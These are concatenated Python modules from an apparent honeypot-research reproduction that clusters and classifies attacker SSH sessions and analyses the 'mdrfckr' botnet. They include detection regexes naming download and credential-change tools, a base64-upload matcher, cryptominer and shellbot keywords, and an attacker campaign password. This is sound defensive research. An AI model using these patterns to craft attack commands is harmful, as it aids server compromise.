    sessions: list[SessionRecord], limit: int, seed: int = 0
) -> list[SessionRecord]:
    """Deterministic uniform sample (the paper clusters a sample too)."""
    if len(sessions) <= limit:
        return list(sessions)
    rng = random.Random(seed)
    return rng.sample(sessions, limit)
