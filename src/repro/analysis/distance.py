"""Pairwise distance matrices over tokenized sessions."""

from __future__ import annotations

import random
from functools import lru_cache

import numpy as np

from repro import telemetry
from repro.analysis.dld import damerau_levenshtein, dld_bounds
from repro.analysis.tokenizer import DEFAULT_TOKENIZER, TokenizerConfig
from repro.honeypot.session import SessionRecord


#: Cap on tokens per session fed to the O(len²) distance computation.
#: Keeps pathological sessions (e.g. hundred-command proxy abuse) from
#: dominating runtime while preserving their behavioural prefix.
MAX_TOKENS_PER_SESSION = 120

#: Distinct (fingerprint, session, cap) entries kept in the
#: tokenization cache.  Sessions are tokenized by several call sites
#: (the clustering, the tokenizer ablation, Figure 14); caching by
#: session id makes the work happen once per session, not once per
#: call site.
TOKEN_CACHE_LIMIT = 250_000

#: Distinct sequence pairs kept in the DLD pair cache.  Figures 5, 6
#: and 14 plus the ablation experiments measure heavily overlapping
#: pair sets; the cache collapses those repeats to dictionary lookups.
PAIR_CACHE_SIZE = 1 << 17

_token_cache: dict[tuple[str, str, int], list[str]] = {}


def clear_distance_caches() -> None:
    """Drop the tokenization and pair caches (tests and benchmarks)."""
    _token_cache.clear()
    _cached_pair_distance.cache_clear()


def session_tokens(
    sessions: list[SessionRecord],
    max_tokens: int = MAX_TOKENS_PER_SESSION,
    tokenizer: TokenizerConfig = DEFAULT_TOKENIZER,
) -> list[list[str]]:
    """Tokenizer-variant (and length-capped) token sequences per session.

    Tokenization is hoisted behind a per-session cache keyed by
    ``(tokenizer fingerprint, session id, cap)``: repeated calls over
    the same sessions (the clustering and every figure that
    re-tokenizes its sample) pay the regex pipeline once, while two
    tokenizer configurations in one process — the normalization
    ablation, a future weighting variant — can never serve each
    other's entries, even without an intervening
    :func:`clear_distance_caches`.  The returned lists are shared with
    the cache — treat them as read-only.
    """
    if len(_token_cache) > TOKEN_CACHE_LIMIT:
        _token_cache.clear()
    fingerprint = tokenizer.fingerprint
    result: list[list[str]] = []
    for session in sessions:
        key = (fingerprint, session.session_id, max_tokens)
        tokens = _token_cache.get(key)
        if tokens is None:
            tokens = tokenizer.tokenize(session)[:max_tokens]
            _token_cache[key] = tokens
        result.append(tokens)
    return result


@lru_cache(maxsize=PAIR_CACHE_SIZE)
def _cached_pair_distance(
    fingerprint: str, a: tuple[str, ...], b: tuple[str, ...]
) -> float:
    lower, upper = dld_bounds(a, b)
    if upper == 0:
        return 0.0
    if lower == upper:
        # The bounds pin the distance (one side is empty): skip the DP.
        return 1.0
    return damerau_levenshtein(a, b) / upper


def pair_distance(
    a: tuple[str, ...],
    b: tuple[str, ...],
    fingerprint: str = DEFAULT_TOKENIZER.fingerprint,
) -> float:
    """Normalized DLD between two token tuples, LRU-cached.

    The cache key is order-canonical (DLD is symmetric), identical
    tuples short-circuit to 0.0, and the length-difference lower bound
    skips the DP whenever it already equals the upper bound.  Entries
    are additionally keyed by the tokenizer fingerprint that produced
    the tuples, so a cache warmed under one tokenizer configuration is
    never consulted by another (the value is a pure function of the
    tuples today, but the keying keeps that an implementation detail
    rather than a cross-config coupling).
    """
    if a == b:
        return 0.0
    if b < a:
        a, b = b, a
    return _cached_pair_distance(fingerprint, a, b)


def exact_compact_matrix(
    distinct: list[tuple[str, ...]],
    workers: int = 1,
    fingerprint: str = DEFAULT_TOKENIZER.fingerprint,
) -> np.ndarray:
    """The exact m×m matrix over *distinct* sequences (the oracle core).

    Shared by the exact pipeline and the sketch path's below-floor
    bypass, so "exact mode" is one code path with one set of bits.
    ``workers > 1`` chunks the upper triangle over a process pool when
    the pair count justifies it; the result is identical either way.
    """
    m = len(distinct)
    total_pairs = m * (m - 1) // 2
    if workers > 1:
        from repro.parallel.distance import (
            MIN_PAIRS_FOR_POOL,
            compact_distance_matrix_parallel,
        )

        if total_pairs >= MIN_PAIRS_FOR_POOL:
            return compact_distance_matrix_parallel(
                distinct, workers, fingerprint=fingerprint
            )
    compact = np.zeros((m, m), dtype=np.float64)
    for i in range(m):
        for j in range(i + 1, m):
            value = pair_distance(distinct[i], distinct[j], fingerprint)
            compact[i, j] = value
            compact[j, i] = value
    return compact


def distance_matrix(
    token_sequences: list[list[str]],
    workers: int = 1,
    mode: str = "exact",
    sketch=None,
    tokenizer: TokenizerConfig = DEFAULT_TOKENIZER,
) -> np.ndarray:
    """Symmetric normalized-DLD matrix (zeros on the diagonal).

    Identical token sequences are deduplicated internally so the O(n²)
    DLD work only runs once per distinct behaviour — bot traffic is
    heavily repetitive, which makes this the difference between seconds
    and hours at realistic sample sizes.

    ``mode="exact"`` (the default) computes every distinct pair — the
    differential oracle.  ``mode="lsh"`` routes through the
    MinHash/LSH candidate prefilter (:mod:`repro.analysis.sketch`):
    only candidate-bucket pairs (plus bounds-pinned pairs) pay the
    O(len²) DP, pruned pairs hold a sound upper bound, and below the
    sketch activation floor the result is the exact matrix bit for
    bit.  Pass ``sketch=SketchConfig(...)`` to override the prefilter
    parameters.

    ``workers > 1`` evaluates the pair work in chunks on a process
    pool (:mod:`repro.parallel.distance`); every pair is the same pure
    function either way, so the matrix is identical at any worker
    count.  Tiny inputs fall back to serial — the pool costs more than
    the DP below a few hundred pairs.
    """
    if mode == "lsh":
        from repro.analysis.sketch import (
            DEFAULT_SKETCH_CONFIG,
            sketch_distance_matrix,
        )

        return sketch_distance_matrix(
            token_sequences, sketch or DEFAULT_SKETCH_CONFIG, workers=workers
        ).values
    if mode != "exact":
        raise ValueError(f"unknown distance mode: {mode!r}")
    with telemetry.span("dld.matrix"):
        keys = [tuple(seq) for seq in token_sequences]
        distinct: list[tuple[str, ...]] = []
        index_of: dict[tuple[str, ...], int] = {}
        for key in keys:
            if key not in index_of:
                index_of[key] = len(distinct)
                distinct.append(key)
        m = len(distinct)
        total_pairs = m * (m - 1) // 2
        registry = telemetry.active()
        if registry is not None:
            registry.count("dld.matrix_builds")
            registry.count("dld.sequences", len(keys))
            registry.count("dld.distinct_sequences", m)
            registry.count("dld.pairs", total_pairs)
        compact = exact_compact_matrix(
            distinct, workers, fingerprint=tokenizer.fingerprint
        )
        mapping = np.array([index_of[key] for key in keys])
        return compact[np.ix_(mapping, mapping)]


def sample_sessions(
    sessions: list[SessionRecord], limit: int, seed: int = 0
) -> list[SessionRecord]:
    """Deterministic uniform sample (the paper clusters a sample too)."""
    if len(sessions) <= limit:
        return list(sessions)
    rng = random.Random(seed)
    return rng.sample(sessions, limit)
