"""Session-command tokenization for the clustering pipeline (section 6).

Commands are split into meaningful tokens (command words, arguments,
paths); each token is later treated as a single symbol by the
Damerau-Levenshtein distance, which makes the similarity robust to
obfuscation that only swaps IPs, filenames or directory names.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import cached_property
from hashlib import sha256

from repro.honeypot.session import SessionRecord

#: Separators between tokens: whitespace and shell operators.
_SPLIT_PATTERN = re.compile(r"[\s;|&<>()]+")

#: Long opaque blobs (base64 payloads, hex strings) are collapsed to a
#: placeholder so payload length does not dominate the distance.
_OPAQUE_PATTERN = re.compile(r"^[A-Za-z0-9+/=\\x]{24,}$")

#: Credential-rotation arguments ("root:<random>") — volatile per
#: session, so masked for clustering robustness.
_CRED_PATTERN = re.compile(r"^\"?root:[A-Za-z0-9]{6,}\"?$")


def tokenize_text(text: str) -> list[str]:
    """Split one command string into its token sequence."""
    tokens: list[str] = []
    for raw in _SPLIT_PATTERN.split(text):
        token = raw.strip("'\"")
        if not token:
            continue
        if _OPAQUE_PATTERN.match(token):
            tokens.append("<blob>")
        else:
            tokens.append(token)
    return tokens


def tokenize_session(session: SessionRecord) -> list[str]:
    """Token sequence of all commands in a session, in order."""
    tokens: list[str] = []
    for record in session.commands:
        tokens.extend(tokenize_text(record.raw))
    return tokens


@dataclass(frozen=True)
class TokenizerConfig:
    """Which tokenization variant produced a token sequence.

    The distance-layer caches (:mod:`repro.analysis.distance`) are
    keyed by :attr:`fingerprint`, so sequences produced under one
    tokenizer configuration can never be served to a caller using
    another — even when ``clear_distance_caches`` is not called
    between configs in one process (e.g. the tokenizer ablation
    running both variants over the same dataset).

    Attributes:
        normalize: apply :func:`normalize_tokens` volatile-token
            masking (the paper's robustness step).  The ablation's
            "raw tokens" variant turns this off.
    """

    normalize: bool = False

    @cached_property
    def fingerprint(self) -> str:
        """Content hash of the variant knobs *and* the pattern sources.

        Folding the regex sources in means editing a mask pattern
        invalidates warm caches too, not just flipping a knob.
        """
        material = "\x1f".join(
            (
                f"normalize={self.normalize}",
                _SPLIT_PATTERN.pattern,
                _OPAQUE_PATTERN.pattern,
                _CRED_PATTERN.pattern,
            )
        )
        return sha256(material.encode("utf-8")).hexdigest()[:16]

    def tokenize(self, session: SessionRecord) -> list[str]:
        """This variant's token sequence for one session."""
        tokens = tokenize_session(session)
        if self.normalize:
            return normalize_tokens(tokens)
        return tokens


#: The paper's tokenization: split, mask opaque blobs, normalize
#: volatile tokens.  This is what the clustering pipeline uses.
DEFAULT_TOKENIZER = TokenizerConfig(normalize=True)

#: The ablation's raw variant: split and blob-mask only.
RAW_TOKENIZER = TokenizerConfig(normalize=False)


def normalize_tokens(tokens: list[str]) -> list[str]:
    """Map volatile tokens (IPs, URLs, random names) to stable classes.

    This is the robustness step the paper describes: two sessions that
    differ only in download host or dropped filename should be nearly
    identical after normalization.
    """
    normalized: list[str] = []
    for token in tokens:
        if re.match(r"^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?$", token):
            normalized.append("<ip>")
        elif "://" in token:
            normalized.append("<url>")
        elif _CRED_PATTERN.match(token):
            normalized.append("<cred>")
        else:
            normalized.append(token)
    return normalized
