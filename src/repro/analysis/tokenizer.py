"""Session-command tokenization for the clustering pipeline (section 6).

Commands are split into meaningful tokens (command words, arguments,
paths); each token is later treated as a single symbol by the
Damerau-Levenshtein distance, which makes the similarity robust to
obfuscation that only swaps IPs, filenames or directory names.
"""

from __future__ import annotations

import re

from repro.honeypot.session import SessionRecord

#: Separators between tokens: whitespace and shell operators.
_SPLIT_PATTERN = re.compile(r"[\s;|&<>()]+")

#: Long opaque blobs (base64 payloads, hex strings) are collapsed to a
#: placeholder so payload length does not dominate the distance.
_OPAQUE_PATTERN = re.compile(r"^[A-Za-z0-9+/=\\x]{24,}$")

#: Credential-rotation arguments ("root:<random>") — volatile per
#: session, so masked for clustering robustness.
_CRED_PATTERN = re.compile(r"^\"?root:[A-Za-z0-9]{6,}\"?$")


def tokenize_text(text: str) -> list[str]:
    """Split one command string into its token sequence."""
    tokens: list[str] = []
    for raw in _SPLIT_PATTERN.split(text):
        token = raw.strip("'\"")
        if not token:
            continue
        if _OPAQUE_PATTERN.match(token):
            tokens.append("<blob>")
        else:
            tokens.append(token)
    return tokens


def tokenize_session(session: SessionRecord) -> list[str]:
    """Token sequence of all commands in a session, in order."""
    tokens: list[str] = []
    for record in session.commands:
        tokens.extend(tokenize_text(record.raw))
    return tokens


def normalize_tokens(tokens: list[str]) -> list[str]:
    """Map volatile tokens (IPs, URLs, random names) to stable classes.

    This is the robustness step the paper describes: two sessions that
    differ only in download host or dropped filename should be nearly
    identical after normalization.
    """
    normalized: list[str] = []
    for token in tokens:
        if re.match(r"^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?$", token):
            normalized.append("<ip>")
        elif "://" in token:
            normalized.append("<url>")
        elif _CRED_PATTERN.match(token):
            normalized.append("<cred>")
        else:
            normalized.append(token)
    return normalized
