"""State-change classification of command sessions (paper section 5).

A session "changes the state of the honeypot" when at least one command
edits/deletes files or actively alters the system: any file event, any
download attempt (the command's purpose is to add a file, whether or
not the server cooperated), any credential or cron change.  Sessions
whose commands only gather information are non-state-changing.

Within state-changing sessions, the paper splits on whether a *file
execution* was attempted (Figure 3(b) vs 3(a)), and — for execution
attempts — whether the executed file was ever actually present
(Figure 4(a) vs 4(b)).
"""

from __future__ import annotations

import re
from enum import Enum

from repro.honeypot.session import FileOp, SessionRecord

#: Command stems whose *intent* is a state change even when the
#: emulation produced no file event (failed downloads, password or
#: process manipulation, uncaptured transfer channels).
_STATE_COMMAND_PATTERN = re.compile(
    r"(?:^|[;&|(\s])"
    r"(wget|curl|tftp|ftpget|ftp|scp|rsync|sftp|chpasswd|passwd|"
    r"pkill|killall|iptables)\b"
)


class StateClass(str, Enum):
    """The paper's session buckets within command sessions."""

    NON_STATE = "non_state"
    STATE_NO_EXEC = "state_no_exec"
    STATE_EXEC = "state_exec"


class ExecOutcome(str, Enum):
    """Figure 4's split of execution attempts."""

    FILE_EXISTS = "file exists"
    FILE_MISSING = "file missing"


def has_exec_attempt(session: SessionRecord) -> bool:
    """Whether any command tried to execute a file."""
    return any(
        event.op in (FileOp.EXECUTE, FileOp.EXECUTE_MISSING)
        for event in session.file_events
    )


def changes_state(session: SessionRecord) -> bool:
    """Whether the session alters the honeypot's state."""
    if session.file_events:
        return True
    return bool(_STATE_COMMAND_PATTERN.search(session.command_text))


def state_class(session: SessionRecord) -> StateClass:
    """Full three-way classification of a command session."""
    if has_exec_attempt(session):
        return StateClass.STATE_EXEC
    if changes_state(session):
        return StateClass.STATE_NO_EXEC
    return StateClass.NON_STATE


def exec_outcome(session: SessionRecord) -> ExecOutcome | None:
    """For execution attempts: did the executed file ever exist?

    A session with at least one successful (file-present) execution is
    "file exists"; a session whose every execution attempt targeted a
    missing file is "file missing".  Non-exec sessions return ``None``.
    """
    saw_exec = False
    saw_present = False
    for event in session.file_events:
        if event.op == FileOp.EXECUTE:
            saw_exec = True
            saw_present = True
        elif event.op == FileOp.EXECUTE_MISSING:
            saw_exec = True
    if not saw_exec:
        return None
    return ExecOutcome.FILE_EXISTS if saw_present else ExecOutcome.FILE_MISSING
