"""SSH client-banner and sensor-coverage analyses.

The honeynet records the client SSH version string for every SSH
session (paper section 3.2) and distributes sensors across countries
(section 3.1, with the limitations discussion noting coverage gaps).
These helpers summarize both.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from dataclasses import dataclass

from repro.honeypot.session import SessionRecord


def banner_distribution(sessions: list[SessionRecord]) -> Counter:
    """How often each client SSH version string appears."""
    counts: Counter = Counter()
    for session in sessions:
        if session.ssh_version:
            counts[session.ssh_version] += 1
    return counts


def banners_by_category(
    sessions: list[SessionRecord], classify
) -> dict[str, Counter]:
    """Banner distribution per command category."""
    result: dict[str, Counter] = defaultdict(Counter)
    for session in sessions:
        if session.ssh_version:
            result[classify(session)][session.ssh_version] += 1
    return dict(result)


@dataclass
class SensorCoverage:
    """How evenly attack traffic spreads across the fleet."""

    sessions_per_honeypot: Counter
    sessions_per_country: Counter
    active_honeypots: int
    gini: float

    @property
    def busiest_honeypot(self) -> tuple[str, int]:
        return self.sessions_per_honeypot.most_common(1)[0]


def gini_coefficient(values: list[int]) -> float:
    """Gini inequality of a count distribution (0 = perfectly even)."""
    if not values:
        return 0.0
    ordered = sorted(values)
    n = len(ordered)
    total = sum(ordered)
    if total == 0:
        return 0.0
    cumulative = 0.0
    weighted = 0.0
    for index, value in enumerate(ordered, start=1):
        cumulative += value
        weighted += cumulative
    return (n + 1 - 2 * weighted / total) / n


def sensor_coverage(
    sessions: list[SessionRecord],
    honeypot_countries: dict[str, str],
) -> SensorCoverage:
    """Per-sensor and per-country load over a session collection."""
    per_honeypot: Counter = Counter()
    per_country: Counter = Counter()
    for session in sessions:
        per_honeypot[session.honeypot_id] += 1
        country = honeypot_countries.get(session.honeypot_id, "??")
        per_country[country] += 1
    return SensorCoverage(
        sessions_per_honeypot=per_honeypot,
        sessions_per_country=per_country,
        active_honeypots=len(per_honeypot),
        gini=gini_coefficient(list(per_honeypot.values())),
    )
