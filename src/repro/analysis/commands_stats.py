"""Known/unknown command statistics (paper section 3.2).

The honeypot records each input line as a "known" (emulated) or
"unknown" command.  Unknown lines are the visibility boundary of the
deployment — scp/rsync/sftp transfers live there, which is exactly why
Figure 4(b)'s files go missing.
"""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import dataclass

from repro.honeypot.session import SessionRecord

_FIRST_WORD = re.compile(r"^\s*([A-Za-z0-9_./-]+)")


@dataclass
class CommandVisibility:
    """Aggregate known/unknown command-line statistics."""

    known_lines: int
    unknown_lines: int
    top_unknown_commands: list[tuple[str, int]]

    @property
    def total_lines(self) -> int:
        return self.known_lines + self.unknown_lines

    @property
    def unknown_fraction(self) -> float:
        if self.total_lines == 0:
            return 0.0
        return self.unknown_lines / self.total_lines


def first_command_word(raw: str) -> str:
    """The leading command name of an input line (best effort)."""
    match = _FIRST_WORD.match(raw)
    return match.group(1) if match else ""


def command_visibility(
    sessions: list[SessionRecord], top_n: int = 10
) -> CommandVisibility:
    """Known/unknown line counts plus the most common unknown commands."""
    known = 0
    unknown = 0
    unknown_names: Counter = Counter()
    for session in sessions:
        for record in session.commands:
            if record.known:
                known += 1
            else:
                unknown += 1
                name = first_command_word(record.raw)
                if name:
                    unknown_names[name] += 1
    return CommandVisibility(
        known_lines=known,
        unknown_lines=unknown,
        top_unknown_commands=unknown_names.most_common(top_n),
    )


def uncapturable_transfer_sessions(sessions: list[SessionRecord]) -> int:
    """Sessions invoking transfer tools the honeypot cannot emulate."""
    pattern = re.compile(r"(?:^|[;&|]\s*)(scp|rsync|sftp)\b")
    return sum(
        1 for s in sessions if pattern.search(s.command_text)
    )
