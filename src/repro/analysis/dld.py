"""Damerau-Levenshtein distance over token sequences.

Implements the restricted (optimal-string-alignment) Damerau-
Levenshtein distance with each *token* treated as one symbol, as the
paper specifies: "mkdir /tmp" vs "cd /tmp" has distance 1.
"""

from __future__ import annotations

from typing import Sequence


def dld_bounds(a: Sequence[str], b: Sequence[str]) -> tuple[int, int]:
    """Cheap ``(lower, upper)`` bounds on the token-level DLD.

    Every edit changes the length by at most one and no alignment needs
    more edits than replacing the shorter sequence wholesale, so

        ``|len(a) - len(b)|  <=  DLD(a, b)  <=  max(len(a), len(b))``.

    When the bounds coincide (one sequence is empty) the distance is
    pinned without running the O(len²) DP — the early exit the pairwise
    matrix uses.
    """
    len_a, len_b = len(a), len(b)
    return abs(len_a - len_b), max(len_a, len_b)


def damerau_levenshtein(a: Sequence[str], b: Sequence[str]) -> int:
    """Token-level DLD (substitution, insertion, deletion, transposition)."""
    len_a, len_b = len(a), len(b)
    if len_a == 0:
        return len_b
    if len_b == 0:
        return len_a
    # two/three rolling rows of the DP matrix
    previous2: list[int] = [0] * (len_b + 1)
    previous = list(range(len_b + 1))
    current = [0] * (len_b + 1)
    for i in range(1, len_a + 1):
        current[0] = i
        for j in range(1, len_b + 1):
            cost = 0 if a[i - 1] == b[j - 1] else 1
            current[j] = min(
                previous[j] + 1,        # deletion
                current[j - 1] + 1,     # insertion
                previous[j - 1] + cost, # substitution
            )
            if (
                i > 1
                and j > 1
                and a[i - 1] == b[j - 2]
                and a[i - 2] == b[j - 1]
            ):
                current[j] = min(current[j], previous2[j - 2] + cost)
        previous2, previous, current = previous, current, previous2
    return previous[len_b]


def normalized_dld(a: Sequence[str], b: Sequence[str]) -> float:
    """DLD divided by the longer sequence length (0 = identical)."""
    longest = max(len(a), len(b))
    if longest == 0:
        return 0.0
    return damerau_levenshtein(a, b) / longest
