"""Baseline comparator: agglomerative clustering on the DLD matrix.

The paper clusters with K-Means over the token-DLD distance matrix; the
natural alternative for a precomputed distance matrix is hierarchical
agglomerative clustering.  This module provides that baseline (scipy
average-linkage) so the choice can be evaluated as an ablation
(``ext_baseline_clustering``).
"""

from __future__ import annotations

import numpy as np
from scipy.cluster.hierarchy import fcluster, linkage
from scipy.spatial.distance import squareform

from repro.analysis.kmedoids import ClusteringResult


def hierarchical_cluster(
    matrix: np.ndarray, k: int, method: str = "average"
) -> ClusteringResult:
    """Agglomerative clustering into ``k`` clusters.

    Returns the same :class:`ClusteringResult` shape as K-medoids; the
    "medoid" of each cluster is its minimum-total-distance member, and
    the inertia is computed identically so the two methods compare
    directly.
    """
    n = matrix.shape[0]
    if matrix.shape != (n, n):
        raise ValueError("distance matrix must be square")
    if not 1 <= k <= n:
        raise ValueError(f"k={k} out of range for n={n}")
    if n == 1:
        labels = np.zeros(1, dtype=int)
    else:
        condensed = squareform(matrix, checks=False)
        tree = linkage(condensed, method=method)
        labels = fcluster(tree, t=k, criterion="maxclust") - 1
    medoids: list[int] = []
    for cluster in sorted(set(labels.tolist())):
        members = np.flatnonzero(labels == cluster)
        sub = matrix[np.ix_(members, members)]
        medoids.append(int(members[int(np.argmin(sub.sum(axis=1)))]))
    label_map = {old: new for new, old in enumerate(sorted(set(labels.tolist())))}
    remapped = np.array([label_map[value] for value in labels.tolist()])
    distances = matrix[np.arange(n), np.array(medoids)[remapped]]
    return ClusteringResult(
        labels=remapped, medoids=medoids, inertia=float((distances**2).sum())
    )


def pair_agreement(labels_a: np.ndarray, labels_b: np.ndarray) -> float:
    """Rand index: fraction of point pairs both clusterings agree on."""
    n = len(labels_a)
    if n != len(labels_b):
        raise ValueError("label arrays must align")
    if n < 2:
        return 1.0
    same_a = labels_a[:, None] == labels_a[None, :]
    same_b = labels_b[:, None] == labels_b[None, :]
    upper = np.triu_indices(n, k=1)
    return float((same_a[upper] == same_b[upper]).mean())
