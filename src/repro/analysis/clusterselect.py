"""Choosing k: the elbow (WCSS) method combined with silhouette.

The paper selects k = 90 where the WCSS elbow and the silhouette score
agree.  We implement both criteria so the pipeline selects k from data
at any scale (90 would over-fragment a scaled-down sample).
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.analysis.kmedoids import ClusteringResult, kmedoids, silhouette_score


@dataclass
class KSelection:
    """Model-selection trace across candidate k values."""

    candidates: list[int]
    inertias: list[float]
    silhouettes: list[float]
    elbow_k: int
    silhouette_k: int
    chosen_k: int


def elbow_point(candidates: list[int], inertias: list[float]) -> int:
    """The candidate farthest below the first-to-last chord.

    Standard geometric elbow criterion on the WCSS curve.
    """
    if len(candidates) < 3:
        return candidates[0]
    x = np.array(candidates, dtype=float)
    y = np.array(inertias, dtype=float)
    x0, y0 = x[0], y[0]
    x1, y1 = x[-1], y[-1]
    chord = np.hypot(x1 - x0, y1 - y0)
    if chord == 0:
        return candidates[0]
    distances = np.abs((y1 - y0) * x - (x1 - x0) * y + x1 * y0 - y1 * x0) / chord
    return int(x[int(np.argmax(distances))])


def select_k(
    matrix: np.ndarray,
    candidates: list[int] | None = None,
    seed: int = 0,
) -> KSelection:
    """Run K-medoids across candidate ks and pick the best."""
    n = matrix.shape[0]
    if candidates is None:
        upper = max(2, min(n - 1, 24))
        candidates = sorted({max(2, round(k)) for k in np.linspace(2, upper, 8)})
    candidates = [k for k in candidates if 2 <= k < n]
    if not candidates:
        candidates = [min(2, n)]
    inertias: list[float] = []
    silhouettes: list[float] = []
    for k in candidates:
        result = kmedoids(matrix, k, seed=seed)
        inertias.append(result.inertia)
        silhouettes.append(silhouette_score(matrix, result.labels))
    elbow_k = elbow_point(candidates, inertias)
    silhouette_k = candidates[int(np.argmax(silhouettes))]
    # convergence rule: prefer the elbow unless silhouette strongly
    # disagrees, in which case take the midpoint candidate
    if elbow_k == silhouette_k:
        chosen = elbow_k
    else:
        midpoint = (elbow_k + silhouette_k) / 2
        chosen = min(candidates, key=lambda k: abs(k - midpoint))
    return KSelection(
        candidates=list(candidates),
        inertias=inertias,
        silhouettes=silhouettes,
        elbow_k=elbow_k,
        silhouette_k=silhouette_k,
        chosen_k=chosen,
    )


def cluster_with_selection(
    matrix: np.ndarray, candidates: list[int] | None = None, seed: int = 0
) -> tuple[ClusteringResult, KSelection]:
    """Select k, then return the final clustering at the chosen k."""
    selection = select_k(matrix, candidates, seed=seed)
    result = kmedoids(matrix, selection.chosen_k, seed=seed)
    return result, selection
