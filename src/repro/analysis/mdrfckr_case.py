"""The mdrfckr case study (paper section 9, Figures 12 and 13).

All analyses here work *forensically* from session records: the actor's
sessions are selected by the same regex category the paper uses, the
variant split uses observable behavioural differences, and the base64
payloads are decoded from the recorded commands.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections import Counter
from dataclasses import dataclass
from datetime import date, timedelta

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.logins import sessions_with_password
from repro.analysis.monthly import daily_counts, session_day
from repro.events import DOCUMENTED_EVENTS, ExternalEvent
from repro.honeypot.session import SessionRecord

#: The credential campaign with the 99.4 % IP overlap.
CAMPAIGN_PASSWORD = "3245gs5662d34"

_BASE64_LINE = re.compile(r"echo\s+([A-Za-z0-9+/=]{24,})\s*\|\s*base64\s+-d")
_PKILL_IP = re.compile(r"pkill\s+-9\s+-f\s+((?:\d{1,3}\.){3}\d{1,3})")


def mdrfckr_sessions(sessions: list[SessionRecord]) -> list[SessionRecord]:
    """All sessions the Table-1 classifier attributes to mdrfckr."""
    return [
        s for s in sessions if DEFAULT_CLASSIFIER.classify(s) == "mdrfckr"
    ]


def is_variant(session: SessionRecord) -> bool:
    """Behavioural split: the variant never rotates the root password
    and interferes with WorkMiner's defence scripts."""
    text = session.command_text
    return "hosts.deny" in text and "chpasswd" not in text


def split_variants(
    sessions: list[SessionRecord],
) -> tuple[list[SessionRecord], list[SessionRecord]]:
    """(initial, variant) partition of mdrfckr sessions."""
    initial: list[SessionRecord] = []
    variant: list[SessionRecord] = []
    for session in sessions:
        (variant if is_variant(session) else initial).append(session)
    return initial, variant


def daily_activity(
    sessions: list[SessionRecord],
) -> dict[date, tuple[int, int]]:
    """Per day: (session count, unique client IPs) — Figure 12."""
    per_day_sessions = daily_counts(sessions)
    per_day_ips: dict[date, set[str]] = {}
    for session in sessions:
        per_day_ips.setdefault(session_day(session), set()).add(
            session.client_ip
        )
    return {
        day: (count, len(per_day_ips.get(day, set())))
        for day, count in per_day_sessions.items()
    }


def ip_overlap_with_campaign(
    mdrfckr: list[SessionRecord], all_sessions: list[SessionRecord]
) -> float:
    """|IPs(mdrfckr) ∩ IPs(3245gs5662d34)| / |IPs(3245gs5662d34)|."""
    campaign = sessions_with_password(all_sessions, CAMPAIGN_PASSWORD)
    campaign_ips = {s.client_ip for s in campaign}
    if not campaign_ips:
        return 0.0
    mdrfckr_ips = {s.client_ip for s in mdrfckr}
    return len(campaign_ips & mdrfckr_ips) / len(campaign_ips)


@dataclass
class DecodedScript:
    """One decoded base64 upload."""

    session_id: str
    client_ip: str
    day: date
    kind: str                   # cryptominer / shellbot / cleanup / other
    body: str
    c2_ips: tuple[str, ...]


def classify_script(body: str) -> str:
    lowered = body.lower()
    if "pkill" in lowered and "cleanup" in lowered:
        return "cleanup"
    if "irc" in lowered or "shellbot" in lowered:
        return "shellbot"
    if "xmrig" in lowered or "pool" in lowered or "wallet" in lowered:
        return "cryptominer"
    return "other"


def decode_base64_uploads(sessions: list[SessionRecord]) -> list[DecodedScript]:
    """Find and decode every base64-piped script in the sessions."""
    decoded: list[DecodedScript] = []
    for session in sessions:
        for record in session.commands:
            match = _BASE64_LINE.search(record.raw)
            if match is None:
                continue
            try:
                body = base64.b64decode(match.group(1)).decode(
                    "utf-8", "replace"
                )
            except (binascii.Error, ValueError):
                continue
            decoded.append(
                DecodedScript(
                    session_id=session.session_id,
                    client_ip=session.client_ip,
                    day=session_day(session),
                    kind=classify_script(body),
                    body=body,
                    c2_ips=tuple(_PKILL_IP.findall(body)),
                )
            )
    return decoded


def c2_ips_from_cleanups(decoded: list[DecodedScript]) -> set[str]:
    """The fixed IP set targeted by the cleanup script (the C2 core)."""
    ips: set[str] = set()
    for script in decoded:
        if script.kind == "cleanup":
            ips.update(script.c2_ips)
    return ips


@dataclass
class LowActivityWindow:
    """A detected collapse in daily mdrfckr activity."""

    start: date
    end: date

    @property
    def days(self) -> int:
        return (self.end - self.start).days + 1

    def overlaps(self, event: ExternalEvent) -> bool:
        return self.start <= event.end and event.start <= self.end


def detect_low_activity_windows(
    per_day: dict[date, int],
    drop_ratio: float = 0.08,
    baseline_days: int = 28,
    warmup_days: int = 45,
    smooth_days: int = 5,
) -> list[LowActivityWindow]:
    """Find days where activity collapses below ``drop_ratio`` × normal.

    The calendar is filled (days with zero recorded sessions count as
    zero), activity is smoothed over ``smooth_days`` to be robust at
    small simulation scales, and the first ``warmup_days`` are skipped —
    the honeynet deployment ramp also looks like low activity
    (section 9).  Adjacent low days merge into windows.
    """
    if not per_day:
        return []
    first = min(per_day)
    last = max(per_day)
    calendar: list[date] = []
    cursor = first
    while cursor <= last:
        calendar.append(cursor)
        cursor += timedelta(days=1)
    counts = [per_day.get(d, 0) for d in calendar]
    half = smooth_days // 2
    smoothed = [
        sum(counts[max(0, i - half) : i + half + 1])
        / len(counts[max(0, i - half) : i + half + 1])
        for i in range(len(counts))
    ]
    low_days: list[date] = []
    for index, day in enumerate(calendar):
        if (day - first).days < warmup_days:
            continue
        lo = max(0, index - baseline_days)
        baseline = sorted(smoothed[lo:index] or [smoothed[index]])
        median = baseline[len(baseline) // 2]
        if median > 0 and smoothed[index] <= drop_ratio * median:
            low_days.append(day)
    windows: list[LowActivityWindow] = []
    for day in low_days:
        if windows and (day - windows[-1].end).days <= 2:
            windows[-1] = LowActivityWindow(windows[-1].start, day)
        else:
            windows.append(LowActivityWindow(day, day))
    return windows


@dataclass
class EventCorrelation:
    """How detected windows line up with documented events."""

    windows: list[LowActivityWindow]
    matched_events: list[ExternalEvent]
    unmatched_events: list[ExternalEvent]
    unmatched_windows: list[LowActivityWindow]

    @property
    def recall(self) -> float:
        total = len(self.matched_events) + len(self.unmatched_events)
        return len(self.matched_events) / total if total else 0.0


def correlate_events(
    windows: list[LowActivityWindow],
    events: tuple[ExternalEvent, ...] = DOCUMENTED_EVENTS,
    slack_days: int = 2,
) -> EventCorrelation:
